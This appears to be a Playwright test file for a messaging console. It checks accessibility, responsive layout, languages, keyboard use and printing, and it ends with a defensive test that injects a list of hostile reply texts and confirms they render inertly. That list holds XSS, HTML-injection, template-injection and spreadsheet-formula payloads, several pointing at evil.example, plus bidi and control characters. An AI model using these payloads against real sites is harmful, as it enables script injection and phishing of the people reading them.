"""The console as an officer has it: Chromium at a desk and on a telephone, every page, axe's rules, and hostile words made harmless."""

import os
import unicodedata
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path

import pytest
from axe_playwright_python.async_playwright import Axe
from playwright.async_api import Browser, BrowserContext, Page, async_playwright, expect

from gateway.compose import tally
from gateway.console.site import navigation
from storage.migrate import migrate
from tests.campaigns.tally import counted
from tests.conftest import NewDatabase
from tests.gateway.test_console import FIRST, cosign
from tests.gateway.town import Town, message, number, person, town
from tests.pages.test_page_in_a_browser import ARGUMENTS, CHROMIUM
from tests.sizes import HOSTILE_BODIES

pytestmark = pytest.mark.needs("chromium")

SIZES = {"desk": {"width": 1280, "height": 900}, "phone": {"width": 390, "height": 844}}
LANGUAGES = ("es", "en", "pt")
#: Screenshots are kept here, for people to look at and for whoever runs the tests for everybody to keep.
PICTURES = Path(os.environ.get("PICTURES", "build/screenshots"))

Open = Callable[..., Awaitable[Page]]


@pytest.fixture(scope="module")
async def site(
    new_database: NewDatabase, redis_url: str, tmp_path_factory: pytest.TempPathFactory
) -> AsyncIterator[Town]:
    """A tenant with a morning behind it: delivered, deferred, blocked, unknown, answered, held."""
    url = await new_database()
    await migrate(url)
    async with town(url, redis_url, tmp_path_factory.mktemp("console"), telegram=False) as found:
        found.start_worker()
        await populate(found)
        await tally(found.house).catch_up()
        yield found


async def populate(found: Town) -> None:
    for n in range(1, 9):
        sent = await found.send(message(person(f"cli-{1000 + n}", number(n))))
        await found.until(sent["id"], "delivered", "sent")
    for n in (1, 2, 3):
        await found.send(message(f"cli-{1000 + n}", debts=["d1"]))
    await found.reply("Hola, mañana pago 150.000", sender=number(1))
    await found.reply("BAJA", sender=number(2))
    await found.send(message("cli-1002", debts=["d1"]))
    await found.reply("que pare que cosa", sender=number(4))
    lost = await found.send(message(person("cli-1090", "+573001230004")))
    await found.until(lost["id"], "unknown", seconds=45)
    for name in ("bank.example", "notary.example"):
        await cosign(found, name, FIRST)


@pytest.fixture(scope="module")
async def browser() -> AsyncIterator[Browser]:
    async with async_playwright() as playwright:
        made = await playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
        yield made
        await made.close()


@pytest.fixture
async def opened(site: Town, browser: Browser) -> AsyncIterator[Open]:
    """``await opened(size)`` is the console, signed in; whatever goes wrong in a page, and any request elsewhere, fails the test."""
    contexts: list[BrowserContext] = []
    wrong: list[str] = []

    async def open_(size: str = "desk", *, language: str = "en", script: bool = True, key: str | None = None) -> Page:
        context = await browser.new_context(
            viewport=SIZES[size],
            is_mobile=size == "phone",
            has_touch=size == "phone",
            locale=language,
            java_script_enabled=script,
        )
        contexts.append(context)
        page = await context.new_page()
        page.set_default_timeout(30_000)
        page.on("pageerror", lambda error: wrong.append(str(error)))
        page.on("console", lambda said: wrong.append(said.text) if said.type == "error" else None)
        page.on("request", lambda asked: None if asked.url.startswith(site.url) else wrong.append(asked.url))
        await page.goto(f"{site.url}/console?lang={language}")
        await page.locator("#key").fill(key or site.key)
        await page.locator("form button").click()
        await page.locator("nav.pages").wait_for()
        return page

    yield open_
    for context in contexts:
        await context.close()
    assert [one for one in wrong if "status of 4" not in one] == []


async def clean(page: Page, name: str, size: str) -> None:
    """Kept as a picture; no violation of axe's rules for WCAG 2.2 A and AA; nothing wider than the window."""
    PICTURES.mkdir(parents=True, exist_ok=True)
    await page.screenshot(path=PICTURES / f"console-{name}-{size}.png", full_page=True, timeout=60_000)
    found = await Axe().run(page, options={"resultTypes": ["violations"]})
    told = [(one["id"], [node["target"] for node in one["nodes"]][:3]) for one in found.response["violations"]]
    assert told == [], f"{name} {size}: {told}"
    assert await page.evaluate("document.documentElement.scrollWidth") <= SIZES[size]["width"], f"{name} {size}"


async def to_person(page: Page, who: str) -> None:
    """Ask for a person, say why, and have her before one."""
    await page.goto(page.url.partition("/console")[0] + "/console/people")
    await page.locator("#who").fill(who)
    await page.locator("main form button").click()
    if await page.locator("#note").count():
        await page.locator("input[value=complaint]").check()
        await page.locator("#note").fill("PQR 4711")
        await page.locator("main form button").click()
    await page.locator(".timeline").wait_for()


PAGES = (
    "",
    "/frequency",
    "/people",
    "/blocked",
    "/unknown",
    "/held",
    "/channels",
    "/packs",
    "/packs/CO",
    "/chain",
    "/proof/3",
)


@pytest.mark.parametrize("size", SIZES)
async def test_every_page_is_within_reach_of_everybody(site: Town, opened: Open, size: str) -> None:
    page = await opened(size)
    assert {each.path for each in navigation()} <= set(PAGES), "whatever the console offers is looked at"
    for path in PAGES:
        answer = await page.goto(f"{site.url}/console{path}")
        assert answer is not None
        assert answer.status == 200, path
        await page.wait_for_load_state("networkidle") if not path else None
        await clean(page, path.strip("/").replace("/", "-") or "today", size)
        for picture in await page.locator("figure img").all():
            # In one step: the live page may put a newer picture in its place in between.
            shown = "(each) => { each.scrollIntoView(); return each.decode().then(() => each.naturalWidth > 0) }"
            assert await picture.evaluate(shown), path
    await page.goto(f"{site.url}/console/people")
    await page.locator("#who").fill("cli-1001")
    await page.locator("main form button").click()
    await page.locator("#note").wait_for()
    await clean(page, "why", size)
    await to_person(page, "cli-1001")
    await clean(page, "person", size)
    await page.get_by_role("link", name="open").first.click()
    await page.locator(".rule-line").first.wait_for()
    await clean(page, "decision", size)
    await page.goto(f"{site.url}/console/people/{'0' * 32}")
    await clean(page, "gone", size)
    await page.goto(f"{site.url}/console")
    await page.locator(".doors button").click()
    await page.locator("#key").fill("tg_test_no_such_key")
    await clean(page, "sign-in", size)
    await page.locator("form button").click()
    await page.get_by_role("alert").wait_for()
    await clean(page, "sign-in-refused", size)


@pytest.mark.parametrize("language", LANGUAGES)
async def test_it_speaks_three_languages_and_remembers(site: Town, opened: Open, language: str) -> None:
    page = await opened("desk", language=language)
    assert await page.locator("html").get_attribute("lang") == language
    for path in ("", "/frequency", "/blocked", "/held", "/unknown", "/channels", "/packs", "/chain"):
        await page.goto(f"{site.url}/console{path}")
        assert await page.locator("html").get_attribute("lang") == language, path
        assert await page.locator("h1").count() == 1
        assert await page.locator("main :text('{')").count() == 0, path
    await page.goto(f"{site.url}/console/frequency?lang=pt")
    assert await page.locator("nav.pages [aria-current]").inner_text() == "Frequência"


async def test_it_is_used_by_keyboard_alone(site: Town, opened: Open) -> None:
    page = await opened()
    await page.keyboard.press("Tab")
    assert await page.evaluate("document.activeElement.className") == "skip"
    await page.keyboard.press("Enter")
    assert await page.evaluate("document.activeElement.id") == "main"
    await page.goto(f"{site.url}/console/frequency")
    for _ in range(60):
        await page.keyboard.press("Tab")
        if await page.evaluate(
            "document.activeElement.getAttribute('href') || ''"
        ) and "/proof/of/" in await page.evaluate("document.activeElement.getAttribute('href')"):
            break
    assert await page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"
    await page.keyboard.press("Enter")
    await page.wait_for_url("**/console/proof/*")
    assert await page.get_by_role("status").is_visible()


async def test_news_are_shown_without_a_reload_and_without_script_by_one(site: Town, opened: Open) -> None:
    page, still = await opened(), await opened(script=False)
    tile = page.locator(".tile-replies dd")
    before = int(await tile.inner_text())
    await page.evaluate("window.mark = 'the same page'")
    await site.reply("gracias por avisar", sender=number(5))
    await expect(tile).to_have_text(str(before + 1), timeout=20_000)
    assert await page.evaluate("window.mark") == "the same page"
    assert await still.locator(".tile-replies dd").inner_text() == str(before)
    await still.reload()
    assert await still.locator(".tile-replies dd").inner_text() == str(before + 1)


async def test_it_prints_without_what_only_a_screen_needs(site: Town, opened: Open) -> None:
    page = await opened()
    await page.emulate_media(media="print")
    for selector in ("nav.pages", ".doors"):
        assert not await page.locator(selector).is_visible()
    assert await page.locator(".heat").first.is_visible()
    assert await page.locator(".behind table").is_visible(), "the table behind the picture is printed with it"
    PICTURES.mkdir(parents=True, exist_ok=True)
    await page.screenshot(path=PICTURES / "console-today-print.png", full_page=True, timeout=60_000)
    assert len(await page.pdf(format="A4")) > 10_000


#: What people write to harm whoever reads it: each is to be seen as it was written, and nothing of it is to happen.
HOSTILE = (
    "<script>document.title='taken'</script>",
    "<img src=x onerror=\"document.title='taken'\">",
    "<svg/onload=document.title='taken'>",
    "\"><script src=https://evil.example/x.js></script>",
    "' autofocus onfocus=document.title='taken' x='",
    "<iframe src=https://evil.example></iframe><object data=https://evil.example></object>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example method=post><button>Confirmar</button></form>",
    "<a href=javascript:document.title='taken'>ver</a> javascript:document.title='taken'",
    "<base href=https://evil.example/>",
    "</blockquote></li></ol></main><h1>Consola</h1>",
    "{{ 7*7 }} {% for x in y %} ${7*7} #{7*7} {0.__class__}",
    "pago \u202egnp.exe\u202c \u2066oculto\u2069 \u200f\u061c",
    "ce\u200bro \ufeff\u2060 an\u00adcho \u2028 linea \u2029",
    "bell \x07 esc \x1b[31m rojo \x1b[0m retro \x08\x08\x7f",
    "\u0600\u070f\u180e\U000e0041\U000e007f \ue000 \uffff",
    "=HYPERLINK(\"https://evil.example\",\"x\")",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;b&#x3e;",
    "A" * 3_000 + "<b>fin</b>",
)  # fmt: skip


def bodies(count: int) -> list[str]:
    """Each of them, then two of them after one another in every order, numbered."""
    pairs = [f"{one} {two}" for one in HOSTILE for two in HOSTILE]
    found = [*HOSTILE, *pairs, *(f"{n} {pair} {n}" for n in range(3) for pair in pairs)]
    return found[:count]


@pytest.mark.campaign
async def test_hostile_words_are_shown_and_do_nothing(site: Town, opened: Open) -> None:
    with counted("C10", "words that would harm whoever reads them in the console") as told:
        told.trials = await _shown_and_harmless(site, opened, bodies(HOSTILE_BODIES))


async def _shown_and_harmless(site: Town, opened: Open, mine: list[str]) -> int:
    """How many there were."""
    who = "cli-1006"
    async with site.house.database._pool.acquire() as connection:
        # As they would have come by a hook that was handed them; PostgreSQL itself refuses U+0000.
        for n, body in enumerate(mine):
            await connection.execute(
                "INSERT INTO contact_event (id, tenant, contact, at, type, channel, words) VALUES "
                "(gen_random_uuid(), 't1', $1, '2026-11-24T14:00:00Z'::timestamptz + $2 * interval '1 second', 'reply', 'sms', $3)",
                who,
                n,
                body.replace("\x00", ""),
            )
    page = await opened(key=site.key)
    await to_person(page, who)
    seen: list[str] = []
    pictured = False
    while True:
        assert "taken" not in await page.title()
        assert (
            await page.locator(
                "main script, main iframe, main object, main link, main style, main base, main meta"
            ).count()
            == 0
        )
        assert {await form.get_attribute("method") for form in await page.locator("form").all()} == {"post"}
        assert await page.locator("h1").count() == 1
        words = page.locator("blockquote.words")
        for text in await words.all_inner_texts():
            seen.append(text)
            hidden = [c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Co", "Cn") and c not in "\n\t"]
            assert hidden == [], "what cannot be seen is shown by its name"
        if not pictured:
            await clean(page, "hostile", "desk")
            pictured = True
        older = page.get_by_role("link", name="Older")
        if not await older.count():
            break
        await older.click()
        await page.wait_for_load_state()
    assert len(seen) >= len(mine)
    shown = "\n".join(seen)
    for words in (
        "<script>document.title='taken'</script>",
        "{{ 7*7 }}",
        "RLO",
        "U+001B",
        "ZWSP",
        "U+E0041",
        "&lt;script&gt;",
    ):
        assert words in shown, words
    return len(mine)
